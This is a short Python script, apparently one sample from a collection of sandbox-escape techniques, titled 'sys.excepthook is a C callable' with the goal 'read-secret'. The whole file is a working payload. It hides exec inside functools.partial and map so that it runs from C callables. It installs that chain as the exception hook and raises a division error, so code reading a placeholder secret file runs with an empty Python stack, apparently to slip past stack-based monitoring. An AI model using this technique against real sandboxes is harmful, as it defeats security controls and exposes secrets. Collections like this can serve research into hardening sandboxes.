# technique: sys.excepthook is a C callable
# goal: read-secret
# source: own analysis: the empty stack
import functools
import sys


class Show:
    __format__ = staticmethod(functools.partial(
        dict.fromkeys, map(exec, ['print(open("@SECRET@").read(), flush=True)'], [{}])))


sys.excepthook = functools.partial('{0}'.format, Show())
1 / 0
